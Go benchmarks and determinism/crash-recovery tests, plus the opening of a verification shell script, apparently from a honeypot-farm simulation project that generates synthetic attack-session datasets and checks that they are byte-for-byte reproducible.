	for i := 0; i < b.N; i++ {
		d.FirstSeenLeaders(10)
	}
}

// BenchmarkExtensionFederationGain measures the Discussion's federated-
// honeyfarm what-if across partition counts.
func BenchmarkExtensionFederationGain(b *testing.B) {
	d := benchDataset(b)
	for _, parts := range []int{2, 4, 8} {
		b.Run(fmt.Sprintf("parts-%d", parts), func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				d.FederationGain(parts)
			}
		})
	}
}

// BenchmarkExtensionBlockingImpact measures the blocking what-if.
func BenchmarkExtensionBlockingImpact(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		d.BlockingImpact(180, 5, 14)
	}
}

// BenchmarkAblationWireVsRecord contrasts the record-level generator's
// throughput with full wire-level replay (real SSH handshakes against
// in-process honeypots) — the cost model that justifies the record-level
// path for 400k-session datasets.
func BenchmarkAblationWireVsRecord(b *testing.B) {
	reg := NewRegistry(1)
	res, err := workload.Generate(workload.Config{
		Seed: 5, TotalSessions: 2000, Days: 10, NumPots: 8, Registry: reg,
	})
	if err != nil {
		b.Fatal(err)
	}
	recs := res.Store.Records()

	b.Run("record-level", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := workload.Generate(workload.Config{
				Seed: int64(i), TotalSessions: 2000, Days: 10, NumPots: 8, Registry: reg,
			}); err != nil {
				b.Fatal(err)
			}
		}
		b.ReportMetric(2000/b.Elapsed().Seconds()*float64(b.N), "sessions/s")
	})

	b.Run("wire-level", func(b *testing.B) {
		f, err := farm.New(farm.Config{
			Seed: 5, NumPots: 8, NumASes: 8,
			Countries: geo.HoneyfarmCountries[:8], Registry: reg,
		})
		if err != nil {
			b.Fatal(err)
		}
		if err := f.Start(); err != nil {
			b.Fatal(err)
		}
		defer f.Stop()
		r := &replay.Replayer{Farm: f, Concurrency: 16}
		const sample = 20 // replay every 20th record per iteration
		b.ResetTimer()
		b.ReportAllocs()
		replayed := 0
		for i := 0; i < b.N; i++ {
			stats, err := r.ReplaySample(recs, sample)
			if err != nil {
				b.Fatal(err)
			}
			replayed += stats.Replayed
		}
		b.ReportMetric(float64(replayed)/b.Elapsed().Seconds(), "sessions/s")
	})
}

// BenchmarkAblationNoCampaigns isolates the campaign machinery's cost
// and lets Figure 17/22 be compared against a campaign-free background.
func BenchmarkAblationNoCampaigns(b *testing.B) {
	reg := NewRegistry(1)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := workload.Generate(workload.Config{
			Seed: int64(i), TotalSessions: 100_000, Registry: reg, DisableCampaigns: true,
		}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkQueryIngest measures the live aggregation engine's ingest
// rate: the sustained records/s internal/query folds into its partial
// aggregates (sealing once at the end, as the WAL follower does after a
// drain cycle).
func BenchmarkQueryIngest(b *testing.B) {
	d := benchDataset(b)
	recs := d.Store.Records()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		eng := query.New(query.Config{
			Epoch:    DefaultEpoch,
			NumPots:  d.NumPots,
			Registry: d.Registry,
			Tagger:   analysis.Tagger(defaultTagger()),
		})
		for j := 0; j < len(recs); j += 1024 {
			k := j + 1024
			if k > len(recs) {
				k = len(recs)
			}
			eng.Ingest(recs[j:k])
		}
		eng.Seal()
	}
	b.StopTimer()
	b.ReportMetric(float64(len(recs))*float64(b.N)/b.Elapsed().Seconds(), "records/s")
}

// BenchmarkSnapshotServe measures the serving layer's request latency
// over a sealed snapshot: "uncached" pays the first render of a
// (sequence, key) pair on a fresh server, "cached" hits the rendered
// body, and "revalidated" is the 304 If-None-Match path.
func BenchmarkSnapshotServe(b *testing.B) {
	d := benchDataset(b)
	eng := query.New(query.Config{
		Epoch:    DefaultEpoch,
		NumPots:  d.NumPots,
		Registry: d.Registry,
		Tagger:   analysis.Tagger(defaultTagger()),
	})
	eng.Ingest(d.Store.Records())
	eng.Seal()
	get := func(b *testing.B, h http.Handler, etag string) *httptest.ResponseRecorder {
		req := httptest.NewRequest(http.MethodGet, "/v1/pots", nil)
		if etag != "" {
			req.Header.Set("If-None-Match", etag)
		}
		rr := httptest.NewRecorder()
		h.ServeHTTP(rr, req)
		return rr
	}
	b.Run("uncached", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			h := query.NewServer(query.ServerConfig{Source: eng}).Handler()
			if rr := get(b, h, ""); rr.Code != http.StatusOK {
				b.Fatalf("status %d", rr.Code)
			}
		}
	})
	b.Run("cached", func(b *testing.B) {
		h := query.NewServer(query.ServerConfig{Source: eng}).Handler()
		get(b, h, "") // warm the render cache
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if rr := get(b, h, ""); rr.Code != http.StatusOK {
				b.Fatalf("status %d", rr.Code)
			}
		}
	})
	b.Run("revalidated", func(b *testing.B) {
		h := query.NewServer(query.ServerConfig{Source: eng}).Handler()
		etag := get(b, h, "").Header().Get("ETag")
		if etag == "" {
			b.Fatal("no ETag")
		}
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if rr := get(b, h, etag); rr.Code != http.StatusNotModified {
				b.Fatalf("status %d", rr.Code)
			}
		}
	})
}

// BenchmarkLintRepo measures the repository's own analyzer suite over
// the whole module — the cost every check.sh run pays. The cold case
// type-checks and analyzes all packages from scratch; the warm case is
// served from the content-hash result cache and bounds the incremental
// cost of an unchanged tree.
func BenchmarkLintRepo(b *testing.B) {
	root, err := lint.FindModuleRoot(".")
	if err != nil {
		b.Fatal(err)
	}
	b.Run("cold", func(b *testing.B) {
		pkgs := 0
		for i := 0; i < b.N; i++ {
			res, err := lint.NewLoader(root).Check(lint.CheckOptions{})
			if err != nil {
				b.Fatal(err)
			}
			pkgs += res.Packages
		}
		b.ReportMetric(float64(pkgs)/b.Elapsed().Seconds(), "pkgs/s")
	})
	b.Run("warm", func(b *testing.B) {
		cache := b.TempDir()
		if _, err := lint.NewLoader(root).Check(lint.CheckOptions{CacheDir: cache}); err != nil {
			b.Fatal(err)
		}
		b.ResetTimer()
		pkgs := 0
		for i := 0; i < b.N; i++ {
			res, err := lint.NewLoader(root).Check(lint.CheckOptions{CacheDir: cache})
			if err != nil {
				b.Fatal(err)
			}
			if res.CacheMisses != 0 {
				b.Fatalf("warm run missed %d package(s); the cache key is unstable", res.CacheMisses)
			}
			pkgs += res.Packages
		}
		b.ReportMetric(float64(pkgs)/b.Elapsed().Seconds(), "pkgs/s")
	})
}

// BenchmarkLoadgenWirePath measures the open-loop harness end to end:
// cmd/loadgen's driver replaying a seeded session mix (real SSH/Telnet
// handshakes through internal/sshwire and internal/telnet) against a
// supervised netsim farm — the same path `loadgen -self-pots` drives.
// Sleep is a no-op so the schedule collapses to back-to-back arrivals:
// the number is the wire path's sustainable session rate at the
// driver's concurrency bound, not the offered rate.
func BenchmarkLoadgenWirePath(b *testing.B) {
	const numPots = 8
	f, err := farm.New(farm.Config{
		Seed: 3, NumPots: numPots, NumASes: numPots,
		Countries: geo.HoneyfarmCountries[:numPots], Registry: NewRegistry(3),
	})
	if err != nil {
		b.Fatal(err)
	}
	if err := f.Start(); err != nil {
		b.Fatal(err)
	}
	defer f.Stop()

	targets := make([]loadgen.Target, numPots)
	for i := 0; i < numPots; i++ {
		ssh, tel := f.SSHAddr(i), f.TelnetAddr(i)
		targets[i] = loadgen.Target{
			Pot:        i,
			SSHAddr:    net.JoinHostPort(ssh.IP, strconv.Itoa(ssh.Port)),
			TelnetAddr: net.JoinHostPort(tel.IP, strconv.Itoa(tel.Port)),
		}
	}
	var srcSeq atomic.Uint64
	dial := func(t loadgen.Target, ssh bool) (net.Conn, error) {
		addr := t.SSHAddr
		if !ssh {
			addr = t.TelnetAddr
		}
		host, portStr, err := net.SplitHostPort(addr)
		if err != nil {
			return nil, err
		}
		port, err := strconv.Atoi(portStr)
		if err != nil {
			return nil, err
		}
		src := fmt.Sprintf("198.51.100.%d", srcSeq.Add(1)%254+1)
		return f.Fabric().Dial(src, netsim.Addr{IP: host, Port: port})
	}

	plan, err := loadgen.BuildPlan(loadgen.PlanConfig{
		Seed: 3, Rate: 200, Duration: time.Second, Targets: targets,
	})
	if err != nil {
		b.Fatal(err)
	}

	b.ResetTimer()
	b.ReportAllocs()
	completed := 0
	for i := 0; i < b.N; i++ {
		res, err := loadgen.Run(loadgen.Config{
			Plan:        plan,
			Dial:        dial,
			Concurrency: 32,
			Now:         time.Now,
			Sleep:       func(time.Duration) {},
		})
		if err != nil {
			b.Fatal(err)
		}
		if len(res.Errors) > 0 {
			b.Fatalf("wire path errors: %v", res.Errors)
		}
		completed += res.Completed
	}
	b.ReportMetric(float64(completed)/b.Elapsed().Seconds(), "sessions/s")
}
