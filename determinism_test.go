package honeyfarm

import (
	"bytes"
	"crypto/sha256"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"runtime"
	"syscall"
	"testing"
	"time"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/wal"
)

// TestSameSeedByteIdentical is the determinism regression test behind
// the nondeterminism lint rule: generating a dataset twice from one seed
// must yield byte-identical serialized output, identical classification
// counts, and identical malware hash sets. Any global-rand or wall-clock
// leak on the simulation path breaks this immediately.
func TestSameSeedByteIdentical(t *testing.T) {
	cfg := SimulateConfig{Seed: 42, TotalSessions: 4000, Days: 30, NumPots: 24}

	generate := func() ([]byte, *Dataset) {
		d, err := Simulate(cfg)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := d.Save(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes(), d
	}
	rawA, dsA := generate()
	rawB, dsB := generate()

	if !bytes.Equal(rawA, rawB) {
		t.Fatalf("same seed produced different serialized datasets:\n  run A: %d bytes, sha256 %x\n  run B: %d bytes, sha256 %x",
			len(rawA), sha256.Sum256(rawA), len(rawB), sha256.Sum256(rawB))
	}

	sharesA, sharesB := dsA.CategoryShares(), dsB.CategoryShares()
	if !reflect.DeepEqual(sharesA, sharesB) {
		t.Errorf("same seed produced different classification shares:\n  run A: %+v\n  run B: %+v", sharesA, sharesB)
	}

	hashSet := func(d *Dataset) map[string]int {
		out := map[string]int{}
		for _, h := range d.HashStats() {
			out[h.Hash] = h.Sessions
		}
		return out
	}
	setA, setB := hashSet(dsA), hashSet(dsB)
	if !reflect.DeepEqual(setA, setB) {
		t.Errorf("same seed produced different hash sets: run A has %d hashes, run B has %d", len(setA), len(setB))
	}
	if len(setA) == 0 {
		t.Error("dataset produced no file hashes; the determinism check is vacuous")
	}

	// The rendered report must be byte-stable too: every per-tag or
	// per-key section has to iterate in a sorted order, never raw map
	// order (Figure 22 once leaked map iteration order here).
	render := func(d *Dataset) []byte {
		var buf bytes.Buffer
		d.WriteReport(&buf, ReportOptions{})
		return buf.Bytes()
	}
	if repA, repB := render(dsA), render(dsB); !bytes.Equal(repA, repB) {
		t.Error("same seed produced different rendered reports; a report section iterates a map in raw order")
	}

	// A different seed must actually change the output, or the test above
	// proves nothing about seed-driven generation.
	cfg.Seed = 43
	rawC, _ := generate()
	if bytes.Equal(rawA, rawC) {
		t.Error("different seeds produced identical datasets")
	}
}

// TestWorkersByteIdentical pins the sharded pipeline's central contract:
// the worker count is purely a speed knob, and every value produces the
// same bytes. Shard seeds derive from (root seed, shard index) and the
// merge is ordered, so Workers must never leak into the output.
func TestWorkersByteIdentical(t *testing.T) {
	// Force real parallelism even on a single-CPU machine so the
	// multi-worker runs actually interleave.
	prev := runtime.GOMAXPROCS(4)
	defer runtime.GOMAXPROCS(prev)

	base := SimulateConfig{Seed: 42, TotalSessions: 4000, Days: 30, NumPots: 24}

	generate := func(workers int) []byte {
		cfg := base
		cfg.Workers = workers
		d, err := Simulate(cfg)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := d.Save(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}

	ref := generate(1)
	for _, workers := range []int{2, 4, 7, runtime.GOMAXPROCS(0)} {
		got := generate(workers)
		if !bytes.Equal(ref, got) {
			t.Errorf("workers=%d diverges from workers=1:\n  workers=1: %d bytes, sha256 %x\n  workers=%d: %d bytes, sha256 %x",
				workers, len(ref), sha256.Sum256(ref), workers, len(got), sha256.Sum256(got))
		}
	}

	// Repeat a parallel run: the parallel path itself must be stable.
	if again := generate(4); !bytes.Equal(ref, again) {
		t.Error("repeated workers=4 run diverges; parallel generation is nondeterministic")
	}
}

// TestFaultsByteIdentical extends the determinism contract to fault
// injection: the same seed plus the same fault plan must produce a
// byte-identical dataset (and availability table) on every run and at
// every worker count, the culled survivors must be a strict subset of
// the fault-free run, and a pot with a full-period outage must collect
// nothing.
func TestFaultsByteIdentical(t *testing.T) {
	prev := runtime.GOMAXPROCS(4)
	defer runtime.GOMAXPROCS(prev)

	plan := &FaultPlan{
		Seed:       7,
		RefuseRate: 0.1,
		ResetRate:  0.07,
		StallRate:  0.05,
		Outages: []FaultOutage{
			{Pot: 3, FirstDay: 0, LastDay: 29}, // down the whole period
			{Pot: 5, FirstDay: 10, LastDay: 19},
		},
	}
	base := SimulateConfig{Seed: 42, TotalSessions: 4000, Days: 30, NumPots: 24, Faults: plan}

	generate := func(cfg SimulateConfig) ([]byte, *Dataset) {
		d, err := Simulate(cfg)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := d.Save(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes(), d
	}

	rawA, dsA := generate(base)
	rawB, dsB := generate(base)
	if !bytes.Equal(rawA, rawB) {
		t.Fatalf("same seed + same fault plan produced different datasets:\n  run A: %d bytes, sha256 %x\n  run B: %d bytes, sha256 %x",
			len(rawA), sha256.Sum256(rawA), len(rawB), sha256.Sum256(rawB))
	}
	if !reflect.DeepEqual(dsA.Availability(), dsB.Availability()) {
		t.Error("same seed + same fault plan produced different availability tables")
	}

	// Worker count stays a pure speed knob under faults.
	for _, workers := range []int{2, 7} {
		cfg := base
		cfg.Workers = workers
		raw, _ := generate(cfg)
		if !bytes.Equal(rawA, raw) {
			t.Errorf("faulted run with workers=%d diverges from workers=default", workers)
		}
	}

	// The faulted dataset is a strict subset of the fault-free one:
	// culling removes records without perturbing the survivors.
	clean := base
	clean.Faults = nil
	rawClean, dsClean := generate(clean)
	if bytes.Equal(rawA, rawClean) {
		t.Fatal("fault plan with 22% drop rate and two outages changed nothing")
	}
	if dsA.Sessions() >= dsClean.Sessions() {
		t.Errorf("faulted run has %d sessions, fault-free %d; want strictly fewer",
			dsA.Sessions(), dsClean.Sessions())
	}
	cleanLines := map[string]bool{}
	for i, line := range bytes.Split(rawClean, []byte("\n")) {
		if i > 0 { // line 0 is the header; its count differs by design
			cleanLines[string(line)] = true
		}
	}
	for i, line := range bytes.Split(rawA, []byte("\n")) {
		if i > 0 && len(line) > 0 && !cleanLines[string(line)] {
			t.Fatalf("faulted record %d is not byte-identical to its fault-free counterpart", i)
		}
	}

	// The full-period outage silences pot 3; the partial one only dents
	// pot 5. The report's accounting matches what is missing.
	rows := dsA.Availability()
	if rows[3].Sessions != 0 || rows[3].DownDays != 30 || rows[3].Availability != 0 {
		t.Errorf("pot 3 (full outage) row = %+v, want 0 sessions, 30 down days", rows[3])
	}
	if rows[3].DowntimeDrops == 0 {
		t.Error("pot 3 lost no sessions to its outage; the cull is vacuous")
	}
	if rows[5].Sessions == 0 || rows[5].DownDays != 10 {
		t.Errorf("pot 5 (partial outage) row = %+v, want sessions > 0 and 10 down days", rows[5])
	}
	dropped := dsClean.Sessions() - dsA.Sessions()
	if got := analysis.TotalDropped(rows); got != dropped {
		t.Errorf("availability table accounts %d drops, dataset lost %d", got, dropped)
	}
}

// killResumeConfig is the workload the SIGKILL/resume test generates:
// big enough that the parent reliably lands a kill between the first
// persisted shard and completion, small enough to stay fast.
func killResumeConfig() SimulateConfig {
	return SimulateConfig{Seed: 11, TotalSessions: 150_000, Days: 60, NumPots: 40, Workers: 2}
}

// TestKillResumeHelper is the subprocess body of
// TestKillResumeByteIdentical: it runs the checkpointed generation and
// saves the dataset. Driven via re-exec of the test binary; skipped in
// a normal test run.
func TestKillResumeHelper(t *testing.T) {
	dir := os.Getenv("HONEYFARM_KILL_WALDIR")
	if dir == "" {
		t.Skip("subprocess helper; driven by TestKillResumeByteIdentical")
	}
	cfg := killResumeConfig()
	cfg.CheckpointDir = dir
	cfg.Resume = true // resume-if-present: works for both the killed and the continuing run
	d, err := Simulate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if err := d.SaveFile(os.Getenv("HONEYFARM_KILL_OUT")); err != nil {
		t.Fatal(err)
	}
}

// TestKillResumeByteIdentical is the committed crash-recovery proof the
// WAL layer exists for: a generation run is SIGKILLed mid-way (no
// defers, no cleanup — the real crash), restarted with -resume
// semantics, and must emit a dataset byte-identical to an uninterrupted
// run. The kill is timed off the WAL itself: the parent waits until at
// least one shard frame is durable, so the resumed run demonstrably
// starts from recovered state rather than from scratch.
func TestKillResumeByteIdentical(t *testing.T) {
	if testing.Short() {
		t.Skip("subprocess kill/resume test")
	}
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	out := filepath.Join(dir, "dataset.jsonl")
	walDir := filepath.Join(dir, "ckpt")
	child := func() *exec.Cmd {
		cmd := exec.Command(exe, "-test.run=TestKillResumeHelper$", "-test.count=1")
		cmd.Env = append(os.Environ(),
			"HONEYFARM_KILL_WALDIR="+walDir,
			"HONEYFARM_KILL_OUT="+out,
		)
		return cmd
	}

	// First run: kill once the WAL holds at least one durable frame.
	first := child()
	var firstOut bytes.Buffer
	first.Stdout, first.Stderr = &firstOut, &firstOut
	if err := first.Start(); err != nil {
		t.Fatal(err)
	}
	walBytes := func() int64 {
		segs, _ := filepath.Glob(filepath.Join(walDir, "wal-*.seg"))
		var n int64
		for _, s := range segs {
			if info, err := os.Stat(s); err == nil {
				n += info.Size()
			}
		}
		return n
	}
	// Wait until the WAL holds at least one complete, durable batch, so
	// the resume below demonstrably starts from recovered state.
	deadline := time.Now().Add(60 * time.Second)
	for time.Now().Before(deadline) {
		if rec, err := wal.Verify(walDir, time.Time{}); err == nil && len(rec.Batches) > 0 {
			break
		}
		time.Sleep(5 * time.Millisecond)
	}
	if err := first.Process.Signal(syscall.SIGKILL); err != nil {
		t.Fatalf("SIGKILL: %v", err)
	}
	err = first.Wait()
	if err == nil {
		// The child finished before the kill landed; without an
		// interruption the test would prove nothing.
		t.Skipf("child completed before SIGKILL (wal %d bytes); nothing interrupted", walBytes())
	}

	// The kill must have left durable, recoverable work behind —
	// otherwise the resume below silently degenerates to a fresh run.
	rec, verr := wal.Verify(walDir, time.Time{})
	if verr != nil {
		t.Fatalf("post-kill WAL unreadable: %v\n  child output:\n%s", verr, firstOut.String())
	}
	if len(rec.Batches) == 0 {
		t.Fatalf("post-kill WAL holds no complete batch (wal %d bytes); kill landed too early", walBytes())
	}
	t.Logf("killed mid-run: %d batches (%d records) durable, %d torn bytes",
		len(rec.Batches), rec.Records(), rec.TornBytes)

	// Second run: resume to completion.
	second := child()
	if outBytes, err := second.CombinedOutput(); err != nil {
		t.Fatalf("resume run failed: %v\n%s", err, outBytes)
	}
	resumed, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}

	// Reference: the same configuration, uninterrupted and un-checkpointed.
	d, err := Simulate(killResumeConfig())
	if err != nil {
		t.Fatal(err)
	}
	var want bytes.Buffer
	if err := d.Save(&want); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(resumed, want.Bytes()) {
		t.Fatalf("resumed dataset differs from uninterrupted run:\n  resumed: %d bytes, sha256 %x\n  uninterrupted: %d bytes, sha256 %x",
			len(resumed), sha256.Sum256(resumed), want.Len(), sha256.Sum256(want.Bytes()))
	}
}
