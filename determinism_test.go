package honeyfarm

import (
	"bytes"
	"crypto/sha256"
	"reflect"
	"testing"
)

// TestSameSeedByteIdentical is the determinism regression test behind
// the nondeterminism lint rule: generating a dataset twice from one seed
// must yield byte-identical serialized output, identical classification
// counts, and identical malware hash sets. Any global-rand or wall-clock
// leak on the simulation path breaks this immediately.
func TestSameSeedByteIdentical(t *testing.T) {
	cfg := SimulateConfig{Seed: 42, TotalSessions: 4000, Days: 30, NumPots: 24}

	generate := func() ([]byte, *Dataset) {
		d, err := Simulate(cfg)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := d.Save(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes(), d
	}
	rawA, dsA := generate()
	rawB, dsB := generate()

	if !bytes.Equal(rawA, rawB) {
		t.Fatalf("same seed produced different serialized datasets:\n  run A: %d bytes, sha256 %x\n  run B: %d bytes, sha256 %x",
			len(rawA), sha256.Sum256(rawA), len(rawB), sha256.Sum256(rawB))
	}

	sharesA, sharesB := dsA.CategoryShares(), dsB.CategoryShares()
	if !reflect.DeepEqual(sharesA, sharesB) {
		t.Errorf("same seed produced different classification shares:\n  run A: %+v\n  run B: %+v", sharesA, sharesB)
	}

	hashSet := func(d *Dataset) map[string]int {
		out := map[string]int{}
		for _, h := range d.HashStats() {
			out[h.Hash] = h.Sessions
		}
		return out
	}
	setA, setB := hashSet(dsA), hashSet(dsB)
	if !reflect.DeepEqual(setA, setB) {
		t.Errorf("same seed produced different hash sets: run A has %d hashes, run B has %d", len(setA), len(setB))
	}
	if len(setA) == 0 {
		t.Error("dataset produced no file hashes; the determinism check is vacuous")
	}

	// A different seed must actually change the output, or the test above
	// proves nothing about seed-driven generation.
	cfg.Seed = 43
	rawC, _ := generate()
	if bytes.Equal(rawA, rawC) {
		t.Error("different seeds produced identical datasets")
	}
}
