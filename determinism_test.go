package honeyfarm

import (
	"bytes"
	"crypto/sha256"
	"reflect"
	"runtime"
	"testing"
)

// TestSameSeedByteIdentical is the determinism regression test behind
// the nondeterminism lint rule: generating a dataset twice from one seed
// must yield byte-identical serialized output, identical classification
// counts, and identical malware hash sets. Any global-rand or wall-clock
// leak on the simulation path breaks this immediately.
func TestSameSeedByteIdentical(t *testing.T) {
	cfg := SimulateConfig{Seed: 42, TotalSessions: 4000, Days: 30, NumPots: 24}

	generate := func() ([]byte, *Dataset) {
		d, err := Simulate(cfg)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := d.Save(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes(), d
	}
	rawA, dsA := generate()
	rawB, dsB := generate()

	if !bytes.Equal(rawA, rawB) {
		t.Fatalf("same seed produced different serialized datasets:\n  run A: %d bytes, sha256 %x\n  run B: %d bytes, sha256 %x",
			len(rawA), sha256.Sum256(rawA), len(rawB), sha256.Sum256(rawB))
	}

	sharesA, sharesB := dsA.CategoryShares(), dsB.CategoryShares()
	if !reflect.DeepEqual(sharesA, sharesB) {
		t.Errorf("same seed produced different classification shares:\n  run A: %+v\n  run B: %+v", sharesA, sharesB)
	}

	hashSet := func(d *Dataset) map[string]int {
		out := map[string]int{}
		for _, h := range d.HashStats() {
			out[h.Hash] = h.Sessions
		}
		return out
	}
	setA, setB := hashSet(dsA), hashSet(dsB)
	if !reflect.DeepEqual(setA, setB) {
		t.Errorf("same seed produced different hash sets: run A has %d hashes, run B has %d", len(setA), len(setB))
	}
	if len(setA) == 0 {
		t.Error("dataset produced no file hashes; the determinism check is vacuous")
	}

	// A different seed must actually change the output, or the test above
	// proves nothing about seed-driven generation.
	cfg.Seed = 43
	rawC, _ := generate()
	if bytes.Equal(rawA, rawC) {
		t.Error("different seeds produced identical datasets")
	}
}

// TestWorkersByteIdentical pins the sharded pipeline's central contract:
// the worker count is purely a speed knob, and every value produces the
// same bytes. Shard seeds derive from (root seed, shard index) and the
// merge is ordered, so Workers must never leak into the output.
func TestWorkersByteIdentical(t *testing.T) {
	// Force real parallelism even on a single-CPU machine so the
	// multi-worker runs actually interleave.
	prev := runtime.GOMAXPROCS(4)
	defer runtime.GOMAXPROCS(prev)

	base := SimulateConfig{Seed: 42, TotalSessions: 4000, Days: 30, NumPots: 24}

	generate := func(workers int) []byte {
		cfg := base
		cfg.Workers = workers
		d, err := Simulate(cfg)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := d.Save(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}

	ref := generate(1)
	for _, workers := range []int{2, 4, 7, runtime.GOMAXPROCS(0)} {
		got := generate(workers)
		if !bytes.Equal(ref, got) {
			t.Errorf("workers=%d diverges from workers=1:\n  workers=1: %d bytes, sha256 %x\n  workers=%d: %d bytes, sha256 %x",
				workers, len(ref), sha256.Sum256(ref), workers, len(got), sha256.Sum256(got))
		}
	}

	// Repeat a parallel run: the parallel path itself must be stable.
	if again := generate(4); !bytes.Equal(ref, again) {
		t.Error("repeated workers=4 run diverges; parallel generation is nondeterministic")
	}
}
