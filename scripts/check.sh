#!/bin/sh
# check.sh — the full verification gate, run from anywhere inside the
# repository. Everything here must pass before a change lands:
#
#   gofmt        all source formatted
#   go vet       toolchain static checks
#   go build     the module compiles
#   lint         the repo's own cross-package analyzer engine (see
#                internal/lint) in -json mode, twice against a fresh
#                cache: the cold run must be clean modulo the checked-in
#                baseline, the warm run must be 100% cache hits with
#                byte-identical output
#   go test -race  full test suite under the race detector
#   chaos smoke  the fault-injection suite (supervisor restarts, outage
#                windows, bounded drain) once more under -race — the
#                tests most sensitive to goroutine leaks and deadlocks
#   disk chaos   the disk-fault suite under -race: crash-at-every-
#                syscall recovery, fsync-failure schedules, and the
#                ENOSPC outage window at both the WAL and farm layers —
#                degraded mode must count-and-drop, recover on a fresh
#                segment, and leak nothing
#   crash smoke  reproduce is SIGKILLed mid-generation with a WAL
#                checkpoint, resumed, and the resumed report is compared
#                byte-for-byte against an uninterrupted run; fsck must
#                then find the WAL healthy
#   serve smoke  cmd/serve (built with -race) tails a generated WAL;
#                every /v1 endpoint must answer 200, the -pprof mux must
#                answer under /debug/pprof/, If-None-Match revalidation
#                must return 304, and SIGTERM must drain cleanly with
#                zero leaked goroutines
#   merge smoke  a 3-shard farm (cmd/shard, built with -race) feeds
#                under a merge coordinator (cmd/merge); one shard is
#                SIGKILLed mid-run — /v1/healthz must degrade to
#                "degraded:shard" while the merge keeps serving — then
#                restarted on the same address/WAL; after re-convergence
#                every /v1 endpoint must compare byte-identical against
#                a single-node run over the same dataset, healthz must
#                return to "ok", and every process must drain leak-free
#   loadgen smoke  a 2-shard wire fleet (cmd/shard -wire, built with
#                -race) behind a merge node and a WAL-tailing serve is
#                driven by cmd/loadgen's open-loop schedule; the
#                driver's completed-session count must reconcile exactly
#                with the fleet's /metrics counters, the serve node must
#                converge to shard 0's accepted count, the same seed
#                must produce a byte-identical plan twice, and every
#                process must drain leak-free
#   real ENOSPC  (Linux, needs mount privileges; skipped otherwise) the
#                WAL degraded-mode test re-run against an actually full
#                filesystem: a size-capped tmpfs is filled with ballast
#                and TestRealENOSPC drives appends into the real kernel
#                ENOSPC, checking the same degrade/recover/gap-frame
#                contract the injected-fault suite pins
#   bench smoke  every benchmark runs once (-benchtime=1x), so a broken
#                benchmark cannot sit undetected until a baseline run
#   bench gate   BenchmarkWALAppendRecover/append is re-run (best of
#                three samples, since machine load is one-sided noise)
#                and must stay within 20% of the latest checked-in
#                BENCH_<n>.json baseline, so a WAL write-path regression
#                fails the gate instead of waiting for someone to
#                re-record baselines
set -eu

cd "$(dirname "$0")/.."

tmp=$(mktemp -d)
trap 'umount "$tmp/enospc" 2>/dev/null || true; rm -rf "$tmp"' EXIT

echo "==> gofmt"
unformatted=$(gofmt -l .)
if [ -n "$unformatted" ]; then
    echo "gofmt: needs formatting:" >&2
    echo "$unformatted" >&2
    exit 1
fi

echo "==> go vet ./..."
go vet ./...

echo "==> go build ./..."
go build ./...

echo "==> go run ./cmd/lint -json ./... (cold, then warm)"
go run ./cmd/lint -json -cache-dir "$tmp/lintcache" ./... \
    >"$tmp/lint-cold.json" 2>"$tmp/lint-cold.stats"
sed 's/^/    /' "$tmp/lint-cold.stats"
go run ./cmd/lint -json -cache-dir "$tmp/lintcache" ./... \
    >"$tmp/lint-warm.json" 2>"$tmp/lint-warm.stats"
sed 's/^/    /' "$tmp/lint-warm.stats"
if ! grep -q ' 0 miss(es) ' "$tmp/lint-warm.stats"; then
    echo "lint: warm run was not 100% cached:" >&2
    cat "$tmp/lint-warm.stats" >&2
    exit 1
fi
cmp "$tmp/lint-cold.json" "$tmp/lint-warm.json"

echo "==> go test -race ./..."
go test -race ./...

chaos_run='TestChaos|TestStop|TestKill|TestOutage|TestFault|TestConnFault|TestBackoff|TestDropsSession|TestPotDown|TestCoordinator|TestRestarter'
echo "==> chaos smoke (go test -race -count=1 -run '$chaos_run')"
go test -race -count=1 -run "$chaos_run" ./internal/farm ./internal/netsim ./internal/faults ./internal/shard

disk_run='TestCrashAtEverySyscall|TestFsyncFaultSchedule|TestCommitterFsyncErrorSticky|TestCloseDrainsInflightSync|TestENOSPCWindowRecovers|TestENOSPCWindowFarm'
echo "==> disk chaos smoke (go test -race -count=1 -run '$disk_run')"
go test -race -count=1 -run "$disk_run" ./internal/wal ./internal/farm

echo "==> crash smoke (SIGKILL mid-generation, resume, diff)"
go build -o "$tmp/reproduce" ./cmd/reproduce
go build -o "$tmp/fsck" ./cmd/fsck
crash_args="-sessions 300000 -seed 7 -workers 2"
"$tmp/reproduce" $crash_args -out "$tmp/reference.txt"
"$tmp/reproduce" $crash_args -wal-dir "$tmp/wal" -out "$tmp/killed.txt" &
crash_pid=$!
# Kill once at least one generation shard (~1.4 MB frame) has been
# written to the WAL, so the resume provably continues from recovered
# state rather than starting over. If the run outraces the poll and
